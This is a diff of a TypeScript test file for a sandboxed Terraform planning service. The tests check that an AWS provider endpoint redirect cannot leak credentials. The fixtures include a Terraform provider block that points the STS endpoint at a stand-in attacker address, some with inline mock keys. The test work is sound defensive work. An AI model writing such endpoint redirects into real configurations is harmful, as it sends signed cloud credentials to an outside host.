@@ -1,6 +1,6 @@
 // The AWS provider where it matters: a real multi-resource configuration plans jailed with the right
-// counts and exactly bare terraform's plan JSON; credentials reach only the plan step and never come
-// back; threat row 21 (provider arguments that redirect requests or read credentials).
+// counts and exactly bare terraform's plan JSON; threat row 21 (provider arguments that redirect requests
+// or read credentials): the jail has no network, and a request's credentials never reach the provider.
 import { fileURLToPath } from 'node:url';
 import { describe, expect, it } from 'vitest';
 import { barePlanJson, withoutTimestamps } from './support/bare.js';
@@ -11,6 +11,7 @@ const FIXTURE = fileURLToPath(new URL('../fixtures/terraform/aws-basic', import.
 
 describe('aws provider', () => {
   it('aws_config_plans_with_counts_and_matches_bare_terraform', async () => {
+    // The fixture's provider block holds mock keys and skip_* flags: it needs no request credentials.
     const result = await runTerraform({ input: { kind: 'directory', path: FIXTURE } });
     expect(result.error).toBeNull();
     // One init: the service lock matched terraform's provider set (no fallback init).
@@ -56,18 +57,28 @@ provider "aws" {
     });
   });
 
+  const redirect = (keys: string): string =>
+    `provider "aws" {\n  region      = "us-east-1"\n  max_retries = 1\n${keys}  endpoints {\n    sts = "http://203.0.113.7:8080"\n  }\n}\nresource "aws_sqs_queue" "q" {\n  name = "q"\n}\n`;
+
   it('endpoint_redirect_with_policy_warning_cannot_reach_attacker_provider_error', async () => {
-    // Without skip_* flags the provider calls STS at the attacker's endpoint with the request's credentials
-    // signed in; the jail has no network, so nothing leaves, and the credentials stay redacted.
-    const result = await runTerraform({
-      input: files({
-        'main.tf': 'provider "aws" {\n  region      = "us-east-1"\n  max_retries = 1\n  endpoints {\n    sts = "http://203.0.113.7:8080"\n  }\n}\nresource "aws_sqs_queue" "q" {\n  name = "q"\n}\n',
-      }),
-    }, { TF_POLICY_WARN: 'provider_argument' });
+    // Keys written into the configuration (no request credentials): the provider calls STS at the attacker's
+    // endpoint with them signed in; the jail has no network, so nothing leaves.
+    const result = await runTerraform(
+      { input: files({ 'main.tf': redirect('  access_key  = "AKIAINLINE0000000001"\n  secret_key  = "inline-secret"\n') }) },
+      { TF_POLICY_WARN: 'provider_argument' },
+    );
     expect(result.error?.type).toBe('provider_error');
     expect(stepNames(result)).toEqual(['init', 'plan']);
     expect(errorText(result)).toMatch(/address family not supported by protocol|dial tcp/);
-    expect(result.findings).toContainEqual(expect.objectContaining({ rule: 'provider_argument', severity: 'warn', line: 4 }));
+    expect(result.findings).toContainEqual(expect.objectContaining({ rule: 'provider_argument', severity: 'warn' }));
+  });
+
+  it('endpoint_redirect_with_request_credentials_is_refused_before_terraform_validation_error', async () => {
+    // The request's credentials never reach the provider: with egress off (the default) a plan that uses
+    // the AWS provider and carries credentials is refused before any terraform jail starts.
+    const result = await runTerraform({ input: files({ 'main.tf': redirect('') }) }, { TF_POLICY_WARN: 'provider_argument' }, { credentials: true });
+    expect(result.error).toMatchObject({ type: 'validation_error', message: 'this service does not give Terraform plans network access; an operator enables it with TF_EGRESS=aws' });
+    expect(stepNames(result)).toEqual([]);
     assertNoPlantedSecret(JSON.stringify(result));
     expect(PLANTED.aws_access_key_id.length).toBeGreaterThan(10);
   });
